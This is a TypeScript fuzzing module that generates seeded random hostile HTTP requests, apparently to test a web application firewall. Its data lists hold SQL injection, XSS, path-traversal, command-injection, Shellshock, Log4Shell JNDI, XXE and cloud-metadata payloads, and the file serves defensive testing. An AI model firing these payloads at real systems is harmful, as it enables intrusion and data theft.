import type { Body, HeaderReader, RawRequest } from "@aiwaf/core";
import { createRandom, type Random } from "./random.ts";
import { bytesOf, firstBytes, readerOf } from "./request-record.ts";

/** A generated request. */
export interface RandomRequest extends RawRequest {
  /** True when its headers throw on being read. Nothing but the firewall itself can be asked to survive that. */
  readonly brokenHeaders: boolean;
  /** True when its body cannot be read: the peek throws or rejects. */
  readonly brokenBody: boolean;
}

const METHODS = [
  "GET",
  "GET",
  "GET",
  "POST",
  "POST",
  "PUT",
  "PATCH",
  "DELETE",
  "HEAD",
  "OPTIONS",
  "TRACE",
  "CONNECT",
  "PROPFIND",
  "get",
  "",
  "G\0T",
  "\u017f",
  "M".repeat(5_000),
];

/** Pieces of targets: ordinary ones, and every way known to us of writing a path, a query or an attack so that two readers disagree. */
const PIECES: readonly string[] = [
  ..."/ // /. /.. /./ /../ \\ \\.. ; ;a=b ;jsessionid=1 # ? ?? & = && a=b a= =b . .. ... ~ * + , : @ ! $ ' \" < > ( ) [ ] { } | ^ ` - _".split(
    " ",
  ),
  ..."%2f %2F %5c %2e %2e%2e %252e %25252e %00 %0a %0d%0a %09 %20 %3b %3f %23 %25 %c0%ae %c0%af %e0%80%af %f0%80%80%af %ff %fe%ff %ed%a0%80 %ed%bf%bf %u002e %u2215 %2 %g0 % %%2e".split(
    " ",
  ),
  ..."index.html admin login api v1 users 42 products search graphql .env .git/config wp-login.php backup.zip etc/passwd favicon.ico robots.txt static app.js".split(
    " ",
  ),
  ..."q=1 id=42 page=2 sort=name redirect=https://example.com/ next=%2Fhome token=eyJhbGciOiJub25lIn0.e30. __proto__[a]=1 constructor.prototype.b=2 a[$ne]=1 a[]=1&a[]=2".split(
    " ",
  ),
  "1' or '1'='1",
  "1;select pg_sleep(1)--",
  "<script>alert(1)</script>",
  "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
  "{{7*7}}",
  "\x24{7*7}",
  "../../../../etc/passwd",
  "..%2f..%2f..%2f",
  "|id",
  "`id`",
  "$(id)",
  "file:///etc/passwd",
  "http://169.254.169.254/latest/",
  "http://host.example/path",
  "//host.example/path",
  "https://user:pass@host.example:8443/a?b#c",
  "\0",
  "\r\n",
  "\t",
  "\x7f",
  "\x80",
  "\xff",
  "\xc0\xae",
  "\xe2\x80\xae",
  "\u2215",
  "\u{1f525}",
  "\ud800",
  "\udfff",
  "\uffff",
  "é",
];

const PEERS: readonly (string | undefined)[] = [
  undefined,
  "",
  ..."127.0.0.1 10.0.0.1 192.0.2.1 198.51.100.7 203.0.113.255 255.255.255.255 0.0.0.0 ::1 :: 2001:db8::1 2001:DB8:0:0:0:0:0:1 ::ffff:10.0.0.1 ::ffff:7f00:1 fe80::1%eth0 64:ff9b::1.2.3.4 1.2.3 1.2.3.4.5 256.1.1.1 01.2.3.4 0x7f.1 1.2.3.4:80 [::1] [::1]:80 ::g 1::2::3 unknown _hidden localhost /run/app.sock".split(
    " ",
  ),
  "1".repeat(300),
  "\0",
  "١.٢.٣.٤",
];

const HEADER_NAMES =
  "host user-agent accept accept-language accept-encoding cookie referer origin content-type content-length content-encoding transfer-encoding connection upgrade authorization x-forwarded-for forwarded x-real-ip x-forwarded-host cf-connecting-ip x-http-method-override range te expect if-none-match sec-fetch-site sec-ch-ua x-original-url __proto__ constructor x-a".split(
    " ",
  );

const HEADER_VALUES: readonly string[] = [
  "",
  " ",
  "*/*",
  "shop.example",
  "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
  "curl/8.14.1",
  "sqlmap/1.9",
  "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8",
  "en-GB,en;q=0.9",
  "gzip, deflate, br",
  "a=b; c=d; e",
  "=; ;;=",
  "https://shop.example/",
  "null",
  "application/json",
  "application/x-www-form-urlencoded; charset=utf-7",
  "multipart/form-data; boundary=x",
  "multipart/form-data; boundary",
  "text/xml; charset=\0",
  "0",
  "-1",
  "99999999999999999999",
  "1, 2",
  "chunked, identity",
  "websocket",
  "Basic Og==",
  "10.0.0.1, 203.0.113.9",
  ", , ,",
  "1.1.1.1,".repeat(200),
  'for=192.0.2.60;proto=http;by=203.0.113.43, for="[2001:db8::1]:47011"',
  'for="',
  'for=_x;for="\\"',
  "DELETE",
  "bytes=0-0,-1,5-4,".repeat(50),
  "() { :;}; /bin/id",
  "\x24{jndi:ldap://host.example/a}",
  "\x80\xff",
  "\0",
  "x".repeat(9_000),
  "(".repeat(2_000),
  "%".repeat(500),
];

const BODY_PIECES: readonly string[] = [
  '{"a":1}',
  '{"a":',
  "[[[[[[[[",
  '"\\ud800"',
  '{"__proto__":{"a":1}}',
  "a=b&c=d",
  "&&&===%%%",
  "%u0027+or+1%3d1",
  "--x\r\ncontent-disposition: form-data; name=a; filename=b\r\n\r\n",
  "--x--",
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///c">]><a>&b;</a>',
  "<a><a><a>",
  "\0\0\0\0",
  "\x1f\x8b\x08\0",
  "\xef\xbb\xbf",
  "\xff\xfe",
  "' or 1=1 --",
  "text ",
  "\r\n\r\n",
];

const POOL = 512;

/**
 * Generates `count` hostile requests, the same for the same seed: targets that two readers would see differently, impossible addresses, broken
 * and enormous headers, a header reader that throws, bodies of no format. Fast enough to generate millions: header sets and bodies come from a
 * pool that is renewed on the way, targets, methods, peers and their combination are new each time.
 */
export function* randomRequests(seed: number, count: number): Generator<RandomRequest, void> {
  const random = createRandom(seed);
  const headerSets = Array.from({ length: POOL }, () => randomHeaders(random));
  const bodies = Array.from({ length: POOL }, () => randomBody(random));
  for (let i = 0; i < count; i++) {
    if (random.oneIn(32)) headerSets[random.below(POOL)] = randomHeaders(random);
    if (random.oneIn(32)) bodies[random.below(POOL)] = randomBody(random);
    const { headers, broken } = headerSets[random.below(POOL)]!;
    const body = bodies[random.below(POOL)]!;
    yield {
      method: random.pick(METHODS),
      target: randomTarget(random),
      headers,
      peer: random.pick(PEERS),
      httpVersion: "1.1",
      brokenHeaders: broken,
      brokenBody: body.broken,
      readBody: body.read,
    };
  }
}

function randomTarget(random: Random): string {
  let target = random.oneIn(8) ? "" : "/";
  for (let pieces = random.below(9); pieces > 0; pieces--) target += random.pick(PIECES);
  if (!random.oneIn(2_000)) return target;
  return random.oneIn(2) ? target.repeat(1 + random.below(1_000)) : random.pick(PIECES).repeat(1 + random.below(20_000));
}

function randomHeaders(random: Random): { readonly headers: HeaderReader; readonly broken: boolean } {
  const lines: [string, string][] = [];
  for (let i = random.oneIn(20) ? random.below(400) : random.below(16); i > 0; i--)
    lines.push([random.pick(HEADER_NAMES), random.pick(HEADER_VALUES)]);
  const reader = readerOf(lines);
  const refuse = (): never => {
    throw new Error("headers cannot be read");
  };
  switch (random.below(24)) {
    case 0:
      return { headers: { get: refuse, [Symbol.iterator]: refuse }, broken: true };
    case 1:
      return { headers: { get: refuse, [Symbol.iterator]: () => reader[Symbol.iterator]() }, broken: true };
    case 2: {
      const failing = function* (): Generator<readonly [string, string], void> {
        yield* lines.slice(0, lines.length >> 1);
        refuse();
      };
      return { headers: { get: (name) => reader.get(name), [Symbol.iterator]: failing }, broken: true };
    }
    case 3:
      return { headers: { get: (name) => reader.get(name) ?? null, [Symbol.iterator]: () => reader[Symbol.iterator]() }, broken: false };
    default:
      return { headers: reader, broken: false };
  }
}

interface RandomBody {
  readonly read: NonNullable<RawRequest["readBody"]>;
  readonly broken: boolean;
}

function randomBody(random: Random): RandomBody {
  let text = "";
  for (let pieces = random.below(12); pieces > 0; pieces--) text += random.pick(BODY_PIECES);
  if (random.oneIn(50)) text = text.repeat(1 + random.below(500));
  const bytes = bytesOf(text);
  for (let flips = random.oneIn(3) ? random.below(8) : 0; flips > 0 && bytes.length > 0; flips--)
    bytes[random.below(bytes.length)] = random.below(256);
  const cut = random.oneIn(4);
  const peek = (limit: number): Body => (cut ? { ...firstBytes(bytes, limit), complete: false } : firstBytes(bytes, limit));
  switch (random.below(64)) {
    case 0:
      return {
        broken: true,
        read: () => {
          throw new Error("the connection is gone");
        },
      };
    case 1:
      return { broken: true, read: () => Promise.reject(new Error("the connection is gone")) };
    case 2:
      return { broken: false, read: (limit) => Promise.resolve(peek(limit)) };
    case 3:
      return { broken: false, read: () => undefined };
    default:
      return { broken: false, read: peek };
  }
}
